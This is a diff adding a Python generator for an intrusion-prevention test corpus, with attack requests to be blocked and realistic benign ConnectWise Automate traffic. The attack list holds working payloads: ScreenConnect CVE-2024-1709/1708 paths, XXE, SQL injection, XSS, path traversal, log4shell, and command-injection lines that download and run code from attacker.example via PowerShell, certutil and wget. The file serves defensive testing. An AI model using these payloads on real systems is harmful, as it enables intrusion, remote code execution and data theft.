@@ -1,0 +1,284 @@
+#!/usr/bin/env python3
+"""Writes the IPS test corpus: attacks.jsonl (must be blocked) and benign.jsonl (must pass).
+
+Each line: {"method", "target", "headers": [[k, v], ...], "content_type", "body", "note"}.
+The benign set is shaped like real Automate traffic; values are generated from a fixed seed so
+the files are reproducible: `python3 generate.py` rewrites them.
+"""
+import json
+import random
+import urllib.parse as up
+
+R = random.Random(20261121)
+HOST = "052d3c3287c38201.example.net"
+BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
+EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.68"
+
+
+def req(method, target, note, headers=None, ct=None, body=None):
+    h = [["host", HOST]] + [list(x) for x in (headers or [])]
+    if ct:
+        h.append(["content-type", ct])
+    return {"method": method, "target": target, "headers": h, "content_type": ct or "", "body": body or "", "note": note}
+
+
+def browser(extra=None):
+    h = [["user-agent", R.choice([BROWSER, EDGE])], ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
+         ["accept-language", R.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7"])],
+         ["accept-encoding", "gzip, deflate, br"],
+         ["cookie", "ASP.NET_SessionId=%s; cwaui=%d" % ("".join(R.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(24)), R.randint(1, 9))]]
+    return h + (extra or [])
+
+
+def q(s):
+    return up.quote(s, safe="")
+
+
+attacks = []
+A = attacks.append
+
+# --- ScreenConnect CVE-2024-1709 (setup wizard) with path spellings
+for t in ["/SetupWizard.aspx/x", "/setupwizard.ASPX/literallyanything", "/SetupWizard.aspx/", "/SetupWizard.aspx",
+          "/SetupWizard.aspx;x=1/y", "/(S(abc))/SetupWizard.aspx/y", "/SetupWizard.aspx./y", "/SetupWizard%2Easpx/y",
+          "/SetupWizard%u002Easpx/y", "\\SetupWizard.aspx\\y", "//SetupWizard.aspx//y", "/SETUPWIZARD.ASPX/SetupWizard",
+          "/SetupWizard.aspx%20/y", "/x/../SetupWizard.aspx/y"]:
+    A(req("POST" if "Wizard" in t else "GET", t, "CVE-2024-1709 setup wizard"))
+# --- CVE-2024-1708
+for t in ["/Services/ExtensionService.ashx/InstallExtension", "/services/extensionservice.ashx/installextension?x=1",
+          "/Services/ExtensionService.ashx/InstallExtension%20", "/Services//ExtensionService.ashx/InstallExtension"]:
+    A(req("POST", t, "CVE-2024-1708 extension install", ct="application/json", body='["UEsDBBQAAAAIAA=="]'))
+for t in ["/App_Extensions/shell.ashx", "/App_Extensions/x.aspx", "/app_extensions/CMD.ASHX", "/App_Extensions/a.ashx?c=whoami"]:
+    A(req("GET", t, "CVE-2024-1708 dropped handler"))
+A(req("POST", "/Services/PageService.ashx/Upload?name=..%2F..%2FApp_Extensions%2Fx.ashx", "CVE-2024-1708 zip-slip name"))
+# --- anonymous installer
+for t in ["/LabTech/Deployment.aspx", "/LabTech/Deployment.aspx?ID=1", "/labtech/deployment.aspx?LINUX=4&ID=2",
+          "/LabTech/Deployment.aspx?MSILocations=1", "/LabTech//Deployment.aspx?ID=3", "/LabTech/Deployment.aspx.?ID=1"]:
+    A(req("GET", t, "anonymous installer"))
+# --- XXE to technician endpoints (CVE-2021-35066)
+xxes = [
+    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>',
+    '<?xml version="1.0"?><!doctype foo [ <!entity % p SYSTEM "http://attacker.example/p.dtd"> %p; ]><foo/>',
+    '<?xml version="1.0"?>\n<!DOCTYPE\tsoap:Envelope\n[<!ENTITY  xxe  SYSTEM  "file:///C:/Windows/System32/drivers/etc/hosts">]><soap:Envelope>&xxe;</soap:Envelope>',
+    '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
+    '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///c:/inetpub/wwwroot/web.config"/></root>',
+]
+for i, b in enumerate(xxes):
+    A(req("POST", "/LabTech/ControlCenter.asmx", "XXE control center %d" % i, [["soapaction", '"http://tempuri.org/GetVersion"']], "text/xml; charset=utf-8", b))
+    A(req("POST", "/cwa/api/v1/computers/import", "XXE api %d" % i, [["authorization", "Bearer x"]], "application/xml", b))
+A(req("POST", "/WCC2/api/tickets", "XXE in form arg", ct="application/x-www-form-urlencoded",
+      body="data=" + q('<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>')))
+
+# --- SQL injection, with evasions, in query, form, JSON, cookies, parameter pollution
+sqli = [
+    "1' or '1'='1", "1' OR 1=1--", "x' oR 'a'='a", "admin'--", "admin' #", "1) or (1=1", "' or true--",
+    "1 UNION SELECT username,password FROM users", "1 UN/**/ION SEL/**/ECT 1,2,3", "1 union all select null,@@version--",
+    "1;DROP TABLE computers--", "1; exec xp_cmdshell 'whoami'--", "1'; WAITFOR DELAY '0:0:5'--", "1 and sleep(5)",
+    "1 AND BENCHMARK(5000000,MD5(1))", "1 and extractvalue(1,concat(0x7e,version()))", "1 and 1=1", "1 and 1=2--",
+    "' and 1=1 and ''='", "1 order by 10--", "x' order by 1#", "1 union select load_file('c:/windows/win.ini')",
+    "(select * from information_schema.tables)", "1'||(select pg_sleep(5))||'", "-1' union\tselect\n1,2--",
+    "1%27%20or%20%271%27=%271", "%2527%20or%201=1--", "%u0027 or 1=1--", "1' or 1=1 limit 1 -- -",
+    "1 or 1=1", "1' oR '1'='1' /*", "1 UNION/*!50000SELECT*/ 1,2", "a' UNION SELECT name FROM sys.objects--",
+]
+for i, p in enumerate(sqli):
+    enc = p if "%" in p else q(p)
+    where = i % 5
+    if where == 0:
+        A(req("GET", "/cwa/api/v1/computers?condition=" + enc, "SQLi query #%d" % i, [["authorization", "Bearer abc"]]))
+    elif where == 1:
+        A(req("POST", "/WCC2/Home/Login", "SQLi form #%d" % i, browser(), "application/x-www-form-urlencoded",
+              "username=" + enc + "&password=x"))
+    elif where == 2:
+        A(req("POST", "/cwa/api/v1/computers/search", "SQLi JSON #%d" % i, [["authorization", "Bearer abc"]], "application/json",
+              json.dumps({"condition": up.unquote(p), "pageSize": 10})))
+    elif where == 3:
+        A(req("GET", "/automate/reports?id=1&id=" + enc, "SQLi parameter pollution #%d" % i, browser()))
+    else:
+        A(req("GET", "/automate/", "SQLi cookie #%d" % i, [["cookie", "cwa_filter=" + enc]]))
+
+# --- XSS
+xss = [
+    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E",
+    "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "javascript:alert(1)", "jav&#x09;ascript:alert(1)",
+    "JaVaScRiPt:eval('x')", "\"><script>alert(1)</script>", "';alert(String.fromCharCode(88))//", "<iframe src=//evil.example>",
+    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<details open ontoggle=alert(1)>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>", "<div style=\"width:expression(alert(1))\">", "<img src=1 oNeRrOr=prompt(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x>", "%u003cscript%u003ealert(1)%u003c/script%u003e", "\" onmouseover=\"alert(1)",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<embed src=javascript:alert(1)>",
+]
+for i, p in enumerate(xss):
+    enc = p if "%" in p else q(p)
+    where = i % 4
+    if where == 0:
+        A(req("GET", "/automate/search?q=" + enc, "XSS query #%d" % i, browser()))
+    elif where == 1:
+        A(req("POST", "/WCC2/Home/Login", "XSS form #%d" % i, browser(), "application/x-www-form-urlencoded", "username=" + enc + "&password=x"))
+    elif where == 2:
+        A(req("POST", "/cwa/api/v1/tickets", "XSS JSON #%d" % i, [["authorization", "Bearer abc"]], "application/json",
+              json.dumps({"Summary": up.unquote(p)})))
+    else:
+        A(req("GET", "/automate/", "XSS referer #%d" % i, browser([["referer", "https://x.example/?q=" + enc]])))
+
+# --- path traversal and file disclosure
+trav = ["../../../../windows/win.ini", "..\\..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fweb.config",
+        "..%c0%af..%c0%afwindows/win.ini", "....//....//etc/passwd", "/etc/passwd", "c:\\windows\\system32\\config\\sam",
+        "..;/..;/web.config", "file:///c:/windows/win.ini", "\\\\attacker.example\\share\\x", "php://filter/resource=index",
+        "..%5c..%5cinetpub%5cwwwroot%5cweb.config", "%u002e%u002e%u2215web.config"]
+for i, p in enumerate(trav):
+    enc = p if "%" in p else q(p)
+    if i % 3 == 0:
+        A(req("GET", "/LabTech/Transfer/download.aspx?file=" + enc, "traversal query #%d" % i))
+    elif i % 3 == 1:
+        A(req("POST", "/cwa/api/v1/scripts/export", "traversal JSON #%d" % i, [["authorization", "Bearer a"]], "application/json", json.dumps({"path": up.unquote(p)})))
+    else:
+        A(req("GET", "/automate/", "traversal cookie #%d" % i, [["cookie", "lastfile=" + enc]]))
+for t in ["/web.config", "/LabTech/web.config", "/trace.axd", "/elmah.axd", "/.git/config", "/App_Data/LabTech.mdb",
+          "/bin/LabTech.Common.dll", "/Global.asax", "/LabTech/Agent.aspx::$DATA", "/LABTEC~1/Agent.aspx", "/automate/web.config.bak",
+          "/cwa/appsettings.json.old", "/.env", "/LabTech/..%2f..%2fweb.config", "/LabTech/Updates/../../web.config",
+          "/LabTech/Transfer/%252e%252e/web.config"]:
+    A(req("GET", t, "file disclosure"))
+
+# --- command injection (cmd, PowerShell, unix), log4shell, shellshock
+cmds = ["127.0.0.1; cat /etc/passwd", "x | whoami", "a && ping -c 1 attacker.example", "$(id)", "`uname -a`", "x%0aid",
+        "1 & cmd /c whoami", "x | powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')",
+        "x; certutil -urlcache -split -f http://attacker.example/a.exe a.exe", "a|net user hacker P@ss /add",
+        "powershell -nop -w hidden -c calc", "x & bitsadmin /transfer j http://attacker.example/a c:\\a",
+        "a;wget http://attacker.example/x -O /tmp/x", "Set-MpPreference -DisableRealtimeMonitoring $true",
+        "[System.Reflection.Assembly]::Load($b)", "x || rundll32 shell32.dll,Control_RunDLL", "|| reg add HKLM\\x /v y"]
+for i, p in enumerate(cmds):
+    enc = p if "%" in p else q(p)
+    if i % 2 == 0:
+        A(req("GET", "/automate/tools/ping?host=" + enc, "command injection query #%d" % i, browser()))
+    else:
+        A(req("POST", "/WCC2/api/run", "command injection form #%d" % i, browser(), "application/x-www-form-urlencoded", "cmd=" + enc))
+for h in [["user-agent", "${jndi:ldap://attacker.example/a}"], ["x-api-version", "${jndi:rmi://attacker.example/x}"],
+          ["user-agent", "() { :; }; /bin/bash -c 'id'"], ["referer", "${${::-j}ndi:ldap://x/y}"]]:
+    A(req("GET", "/automate/", "header injection " + h[0], [h]))
+A(req("GET", "/automate/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%2Fb%7D", "log4shell query"))
+
+# --- scanners
+for ua in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+           "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 Nuclei",
+           "Fuzz Faster U Fool v2.0.0-dev (ffuf)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6",
+           "Mozilla/5.0 zgrab/0.x", "Wfuzz/3.1.0"]:
+    A(req("GET", "/automate/", "scanner UA", [["user-agent", ua]]))
+A(req("GET", "/", "acunetix header", [["acunetix-aspect", "enabled"]]))
+for t in ["/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+          "/cgi-bin/luci", "/owa/auth/logon.aspx", "/ecp/default.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"]:
+    A(req("GET", t, "probe for other software"))
+
+# --- protocol anomalies
+A(req("GET", "/automate/?x=%01%02", "control characters"))
+A(req("GET", "/automate/?next=%0d%0aSet-Cookie:%20admin=1", "response splitting"))
+A(req("GET", "/automate/?next=%0aLocation:%20http://evil.example", "response splitting LF"))
+A(req("GET", "/automate/?" + "&".join("a%d=1" % i for i in range(300)), "too many args"))
+A(req("GET", "/automate/?q=" + "A" * 9000, "oversized query"))
+A(req("GET", "/automate/", "oversized header", [["x-junk", "B" * 9000]]))
+A(req("GET", "/automate/", "httpoxy", [["proxy", "http://attacker.example:8080"]]))
+A(req("PROPFIND", "/automate/", "unknown method"))
+A(req("POST", "/WCC2/api/x", "smuggled request in body arg", ct="application/x-www-form-urlencoded",
+      body="a=" + q("x\r\nGET /cwa/api/v1/users HTTP/1.1\r\nHost: x\r\n")))
+A(req("GET", "/automate/?q=%uff1cscript%uff1e", "full-width %u in query"))
+A(req("GET", "/automate/?q=%c0%ae%c0%ae%c0%af", "overlong UTF-8 in query"))
+A(req("GET", "/automate/", "many headers", [["x-h%d" % i, "v"] for i in range(110)]))
+
+benign = []
+B = benign.append
+# --- agent check-ins with opaque bodies
+for i in range(70):
+    body = "".join(chr(R.randint(32, 126)) for _ in range(R.randint(200, 900)))
+    if i % 7 == 0:
+        body = body[:50] + "' or 1=1 -- <script> ../../ union select " + body[50:]  # opaque: may contain anything
+    B(req("POST", "/LabTech/Agent.aspx", "agent check-in", [["user-agent", "LTService"], ["expect", "100-continue"]],
+          "application/x-www-form-urlencoded" if i % 3 else "application/octet-stream", body))
+for i in range(15):
+    B(req("GET", "/LabTech/Agent.aspx", "agent version probe", [["user-agent", R.choice(["LTService", "LTSvcMon", "LTTray"])]]))
+for i in range(20):
+    tok = "".join(R.choice("0123456789abcdef") for _ in range(32))
+    B(req("GET", "/LabTech/Deployment.aspx?InstallerToken=%s" % tok + R.choice(["", "&MSILocations=1", "&Probe=1"]), "token installer",
+          [["user-agent", R.choice(["Microsoft-CryptoAPI/10.0", "curl/8.5.0", "Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1.19041.4648"])]]))
+for i in range(15):
+    B(req("GET", R.choice(["/LabTech/Updates/LabTechAgent_%d.%d.zip", "/LabTech/Updates/Plugins/Plugin_%d_%d.zip"]) % (R.randint(200, 250), R.randint(1, 400)),
+          "agent update", [["user-agent", "LTService"]]))
+for i in range(15):
+    tpath = "/LabTech/Transfer/%s/%s" % (R.choice(["Scripts", "Tools", "Software", "Patches"]), R.choice(["Cleanup Temp.ps1", "sysinfo.exe", "Chrome Setup (x64).msi", "KB5034441.msu"]))
+    B(req("GET", tpath.replace(" ", "%20"),
+          "script transfer", [["user-agent", "LTService"]]))
+B(req("GET", "/LabTech/Service/LabTechRemoteAgent.msi", "agent msi"))
+B(req("GET", "/LabTech/Service/LabUninstall.exe", "uninstaller"))
+# --- Web Control Center browsing
+pages = ["/automate/", "/automate/dashboard", "/automate/computers", "/automate/computers/%d", "/automate/clients/%d/locations",
+         "/automate/scripts", "/automate/monitors", "/automate/reports/patch-compliance", "/automate/settings/users",
+         "/automate/static/js/main.%s.js", "/automate/static/css/main.%s.css", "/automate/static/media/logo.%s.svg",
+         "/automate/assets/fonts/roboto-v30-latin-regular.woff2", "/automate/i18n/en-US.json"]
+for i in range(80):
+    p = R.choice(pages)
+    if "%d" in p:
+        p = p % R.randint(1, 5000)
+    if "%s" in p:
+        p = p % "".join(R.choice("0123456789abcdef") for _ in range(8))
+    if R.random() < 0.3:
+        p += "?v=%d" % R.randint(2023010100, 2024123199)
+    B(req("GET", p, "WCC browsing", browser([["referer", "https://%s/automate/dashboard" % HOST]])))
+# --- REST API with search filters
+conds = ["ComputerName like '%srv%'", "(LastContact > '2024-06-01T00:00:00') and (Client.Id = 12)", "Status = 'Online' or Status = 'Offline'",
+         "Id in (101,102,103)", "OperatingSystemName like '%Windows Server 2019%'", "Client.Name = 'O''Brien Plumbing'",
+         "RemoteAgentLastContact < '2024-01-01' and Type = 'Workstation'", "Location.Id = 4 and IsRebootNeeded = true",
+         "(ComputerName contains 'DC') and not (Status = 'Offline')", "SerialNumber = 'C02XK1ABJGH5'", "Name like 'Patch - %'",
+         "DateAdded >= '2024-03-01' and DateAdded < '2024-04-01'"]
+orders = ["computerName asc", "lastContact desc", "id asc", "client.name asc, computerName asc"]
+for i in range(60):
+    qs = "condition=%s&pageSize=%d&page=%d&orderBy=%s" % (q(R.choice(conds)), R.choice([25, 50, 100, 250]), R.randint(1, 20), q(R.choice(orders)))
+    B(req("GET", "/cwa/api/v1/%s?%s" % (R.choice(["computers", "clients", "Computers/%d/Patches" % R.randint(1, 999), "scripts", "monitors/groups", "tickets"]), qs),
+          "API search", [["authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJ1IjoiMSJ9.%s" % "".join(R.choice("abcdefABCDEF0123456789_-") for _ in range(43))],
+                         ["clientid", "3f2c9a7e-1b5d-4e8f-9a2b-7c6d5e4f3a2b"], ["accept", "application/json"],
+                         ["user-agent", R.choice(["PostmanRuntime/7.39.0", "python-requests/2.31.0", "Go-http-client/1.1", "Rewst/1.0", "Mozilla/5.0"])]]))
+for i in range(15):
+    B(req("POST", "/cwa/api/v1/apitoken", "API token", [["clientid", "3f2c9a7e-1b5d-4e8f-9a2b-7c6d5e4f3a2b"]], "application/json",
+          json.dumps({"UserName": R.choice(["tech1", "svc-integration", "jane.doe@msp.example"]), "Password": R.choice(["S3cure!Pass#2024", "correct horse battery staple", "P@$$w0rd^&*()", "Winter2024!!"]),
+                      "TwoFactorPasscode": str(R.randint(100000, 999999))})))
+for i in range(25):
+    kind = i % 5
+    if kind == 0:
+        body = {"ComputerIds": [R.randint(1, 9999) for _ in range(3)], "ScriptId": R.randint(1, 9000), "Parameters": {"reboot": "false", "window": "22:00"}}
+        path = "/cwa/api/v1/Computers/%d/Scripts" % R.randint(1, 9999)
+    elif kind == 1:
+        body = {"Command": {"Id": 2}, "Parameters": [R.choice(["ipconfig /all", "Get-Service -Name LTService", "gpupdate /force", "net use", "whoami /groups"])]}
+        path = "/cwa/api/v1/Computers/%d/CommandExecute" % R.randint(1, 9999)
+    elif kind == 2:
+        body = {"Summary": R.choice(["Printer offline on 2nd floor", "User can't log in -- password expired?", "Disk > 90% on SRV-FS01", "Café POS #3 won't boot"]),
+                "Body": "Reported by O'Neil at 9:30; ticket #%d. See https://portal.example/kb/123?a=1&b=2" % R.randint(1000, 9999)}
+        path = "/cwa/api/v1/tickets"
+    elif kind == 3:
+        body = [{"op": "replace", "path": "/Comment", "value": "Decommissioned <2024-05-01>; replaced by SRV-%02d" % R.randint(1, 40)}]
+        path = "/cwa/api/v1/Computers/%d" % R.randint(1, 9999)
+    else:
+        body = {"Name": "Patch window - %s" % R.choice(["Mon 22:00", "Sat 02:00"]), "Type": "Maintenance", "Filter": "Client.Name = 'Acme & Sons'"}
+        path = "/cwa/api/v1/Groups"
+    B(req(R.choice(["POST", "PATCH", "PUT"]) if kind == 3 else "POST", path, "API write", [["authorization", "Bearer x"], ["clientid", "3f2c9a7e"]], "application/json", json.dumps(body)))
+# --- WCC2 logins and portal
+for i in range(15):
+    B(req("POST", "/WCC2/Home/Login", "WCC2 login", browser(), "application/x-www-form-urlencoded",
+          "username=%s&password=%s&returnUrl=%s" % (q(R.choice(["contact@client.example", "j.smith", "front.desk@acme.example"])),
+                                                      q(R.choice(["P@ssw0rd!", "Sunny-Day_42", "tr0ub4dor&3", "hunter2 is #1"])), q("/WCC2/Home/Index"))))
+for i in range(15):
+    B(req("GET", R.choice(["/WCC2/Home/Index", "/WCC2/Tickets?status=open", "/WCC2/Computers?client=%d" % R.randint(1, 300), "/WCC2/api/tickets/%d" % R.randint(1, 9999),
+                            "/WCC2/Content/site.css?v=%d" % R.randint(1, 99), "/WCC2/Scripts/app.min.js"]), "WCC2 portal", browser()))
+# --- Control Center SOAP
+for i in range(15):
+    op = R.choice(["GetVersion", "GetComputers", "GetScriptList", "Ping"])
+    body = '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><%s xmlns="http://tempuri.org/"><id>%d</id></%s></soap:Body></soap:Envelope>' % (op, R.randint(1, 999), op)
+    B(req("POST", "/LabTech/ControlCenter.asmx", "Control Center SOAP", [["user-agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"], ["soapaction", '"http://tempuri.org/%s"' % op]],
+          "text/xml; charset=utf-8", body))
+for t in ["/", "/favicon.ico", "/robots.txt", "/automate", "/cwa/api/v1/"]:
+    B(req("GET", t, "misc", browser()))
+
+with open("attacks.jsonl", "w") as f:
+    for a in attacks:
+        f.write(json.dumps(a) + "\n")
+with open("benign.jsonl", "w") as f:
+    for b in benign:
+        f.write(json.dumps(b) + "\n")
+print(len(attacks), "attacks,", len(benign), "benign")
